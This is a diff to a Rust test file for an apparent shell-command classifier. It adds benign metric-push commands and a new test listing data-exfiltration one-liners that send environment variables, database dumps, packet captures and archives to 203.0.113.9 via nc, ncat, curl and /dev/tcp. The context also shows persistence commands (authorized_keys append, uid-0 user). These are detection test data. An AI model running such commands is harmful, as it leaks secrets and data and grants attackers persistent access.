@@ -37,6 +37,8 @@ fn harmless_commands_have_no_sign() {
         "until printf '' 2>>/dev/null >>/dev/tcp/kafka/9092; do sleep 1; done",
         "exec 3<>/dev/tcp/127.0.0.1/8080; printf 'GET /health HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
         "echo ruok | nc localhost 2181",
+        "echo 'shop.orders 1' | nc -w1 graphite 2003",
+        "cat /tmp/metrics | curl --data-binary @- http://pushgateway:9091/metrics/job/x",
         "redis-cli ping",
         "psql -c 'select 1'",
         "mysqldump --all-databases | gzip > /backup/all.sql.gz",
@@ -349,6 +351,21 @@ fn evasion_and_persistence() {
             "echo x | tee -a /host/root/.ssh/authorized_keys",
             "useradd -o -u 0 x",
             "cp pod.yaml /host/etc/kubernetes/manifests/",
+        ],
+    );
+}
+
+#[test]
+fn data_that_is_sent() {
+    all_have(
+        Kind::DataSent,
+        &[
+            "tcpdump -i any -w - | nc 203.0.113.9 9000",
+            "tar czf - /data | ncat 203.0.113.9 9000",
+            "env | base64 | curl -d @- http://203.0.113.9/",
+            "mysqldump --all-databases | gzip | curl -T - http://203.0.113.9/x",
+            "cat /data/db.sqlite > /dev/tcp/203.0.113.9/9000",
+            "nc 203.0.113.9 9000 < /data/db.sqlite",
         ],
     );
 }
